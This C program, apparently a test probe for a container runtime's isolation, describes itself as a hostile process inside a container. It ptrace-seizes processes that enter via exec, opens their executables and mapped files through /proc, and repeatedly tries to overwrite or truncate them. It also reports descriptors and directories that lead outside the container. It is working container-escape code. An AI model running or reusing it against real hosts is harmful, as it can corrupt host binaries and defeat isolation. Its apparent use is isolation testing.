/*
 * A hostile program in a container that waits for processes to come in from outside (`exec`) and takes what it can get
 * of each: its program, the files that it has mapped, its descriptors, its directories, and control over it by ptrace.
 *
 *     thief            watches until it is killed
 *
 * It guesses the numbers of processes to come, so that it is there when they are born. What it prints, one line each:
 *
 *     ready            it watches
 *     born PID         a process has appeared
 *     program PID      its program, which is none of the container's, was opened for reading
 *     mapped PID       the same for a file that it has mapped
 *     wrote HOW        such a file was opened for writing, and bytes were written or cut off
 *     file PID N PATH  its descriptor N could be followed, to what is not at PATH in this container
 *     place PID WHICH  its root or working directory could be followed, and is not the container's root
 *     traced PID SETS  it was seized while it held capabilities that this program lacks (SETS: its effective ones)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 64 /* so many numbers are tried beyond the last that was seen */
#define PREY_MAX 16
#define LOOT_MAX 32 /* opened programs of others, tried again and again until their process has ended */

struct prey {
    pid_t pid;
    bool program, mapped, traced, place;
};

static struct prey prey[PREY_MAX];
static int loot[LOOT_MAX];
static size_t prey_count, loot_count;
static pid_t last;
static unsigned long long own_capabilities;
static struct stat root, own_programs[2];

static void say(const char *format, ...)
{
    char line[512];
    va_list arguments;
    int length;

    va_start(arguments, format);
    length = vsnprintf(line, sizeof(line) - 1, format, arguments);
    va_end(arguments);
    if (length > (int)sizeof(line) - 2)
        length = (int)sizeof(line) - 2;
    line[length++] = '\n';
    if (write(STDOUT_FILENO, line, (size_t)length) < 0)
        _exit(1);
}

static unsigned long long capabilities(const char *pid)
{
    char path[64], text[4096];
    const char *found;
    ssize_t length;
    int fd;

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
    if (fd >= 0)
        close(fd);
    if (length <= 0)
        return 0;
    text[length] = '\0';
    found = strstr(text, "CapEff:");
    return found != NULL ? strtoull(found + 7, NULL, 16) : 0;
}

static bool is_same(const struct stat *one, const struct stat *other)
{
    return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
}

/* The container's programs are no loot. */
static bool is_own(int fd)
{
    struct stat status;

    return fstat(fd, &status) < 0 || is_same(&status, &own_programs[0]) || is_same(&status, &own_programs[1]);
}

/* Whether what a descriptor leads to has the same name in this root. */
static bool is_here(const char *name, const struct stat *status)
{
    struct stat here;

    return stat(name, &here) == 0 && is_same(&here, status);
}

static void overwrite(int fd, const char *how, int flags)
{
    char path[64];
    int again;

    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    again = open(path, flags | O_CLOEXEC);
    if (again < 0)
        return;
    if ((flags & O_TRUNC) != 0 || write(again, "#!stolen", 8) == 8 || ftruncate(again, 1) == 0)
        say("wrote %s", how);
    close(again);
}

static void keep(int fd)
{
    if (loot_count == LOOT_MAX) {
        close(loot[0]);
        memmove(loot, loot + 1, (LOOT_MAX - 1) * sizeof(loot[0]));
        loot_count--;
    }
    loot[loot_count++] = fd;
}

static void use_loot(void)
{
    for (size_t i = 0; i < loot_count; i++) {
        overwrite(loot[i], "by writing", O_WRONLY);
        overwrite(loot[i], "by cutting", O_WRONLY | O_TRUNC);
        overwrite(loot[i], "by appending", O_RDWR | O_APPEND);
    }
}

static bool take(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

    if (fd < 0)
        return false;
    if (is_own(fd)) {
        close(fd);
        return false;
    }
    keep(fd);
    return true;
}

static void take_mapped(struct prey *one)
{
    char path[512];
    DIR *list;

    snprintf(path, sizeof(path), "/proc/%d/map_files", (int)one->pid);
    list = opendir(path);
    if (list == NULL)
        return;
    for (struct dirent *item; (item = readdir(list)) != NULL;) {
        snprintf(path, sizeof(path), "/proc/%d/map_files/%s", (int)one->pid, item->d_name);
        if (item->d_name[0] != '.' && take(path) && !one->mapped) {
            one->mapped = true;
            say("mapped %d", (int)one->pid);
        }
    }
    closedir(list);
}

static void follow_descriptors(const struct prey *one)
{
    char path[512], target[256];
    struct stat status;
    DIR *list;

    snprintf(path, sizeof(path), "/proc/%d/fd", (int)one->pid);
    list = opendir(path);
    if (list == NULL)
        return;
    for (struct dirent *item; (item = readdir(list)) != NULL;) {
        ssize_t length;

        if (item->d_name[0] == '.' || atoi(item->d_name) <= STDERR_FILENO)
            continue;
        snprintf(path, sizeof(path), "/proc/%d/fd/%s", (int)one->pid, item->d_name);
        length = readlink(path, target, sizeof(target) - 1);
        if (length < 0 || stat(path, &status) < 0 || S_ISSOCK(status.st_mode))
            continue;
        target[length] = '\0';
        if (!is_here(target, &status))
            say("file %d %s %s", (int)one->pid, item->d_name, target);
    }
    closedir(list);
}

static void follow_place(struct prey *one)
{
    static const char *const names[] = {"root", "cwd"};
    char path[64];
    struct stat status;

    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "/proc/%d/%s", (int)one->pid, names[i]);
        if (one->place || stat(path, &status) < 0 || is_same(&status, &root))
            continue;
        one->place = true;
        say("place %d %s", (int)one->pid, names[i]);
    }
}

static void trace(struct prey *one)
{
    unsigned long long held;
    char number[16];

    if (one->traced || ptrace(PTRACE_SEIZE, one->pid, NULL, NULL) < 0)
        return;
    one->traced = true;
    snprintf(number, sizeof(number), "%d", (int)one->pid);
    held = capabilities(number);
    if ((held & ~own_capabilities) != 0)
        say("traced %d %llx", (int)one->pid, held);
}

/* Tracees that stop are sent on; what has ended is buried. */
static void tend(void)
{
    int status;
    pid_t pid;

    while ((pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0) {
        if (WIFSTOPPED(status))
            ptrace(PTRACE_CONT, pid, NULL, (void *)(intptr_t)(status >> 16 != 0 ? 0 : WSTOPSIG(status)));
    }
}

static void look_ahead(void)
{
    for (pid_t pid = last + 1; pid <= last + AHEAD; pid++) {
        if (kill(pid, 0) < 0)
            continue;
        last = pid;
        if (prey_count == PREY_MAX)
            memmove(prey, prey + 1, --prey_count * sizeof(prey[0]));
        prey[prey_count] = (struct prey){.pid = pid};
        trace(&prey[prey_count++]);
        say("born %d", (int)pid);
    }
}

static void hunt(void)
{
    for (size_t i = 0; i < prey_count; i++) {
        struct prey *one = &prey[i];
        char path[64];

        trace(one);
        snprintf(path, sizeof(path), "/proc/%d/exe", (int)one->pid);
        if (take(path) && !one->program) {
            one->program = true;
            say("program %d", (int)one->pid);
        }
        take_mapped(one);
        follow_descriptors(one);
        follow_place(one);
        if (kill(one->pid, 0) < 0)
            prey[i] = prey[--prey_count];
    }
}

int main(void)
{
    if (stat("/", &root) < 0 || stat("/bin/busybox", &own_programs[0]) < 0 ||
        stat("/proc/self/exe", &own_programs[1]) < 0)
        return 1;
    own_capabilities = capabilities("self");
    last = getpid();
    signal(SIGPIPE, SIG_IGN);
    say("ready");
    for (;;) {
        look_ahead();
        tend();
        hunt();
        use_loot();
    }
}
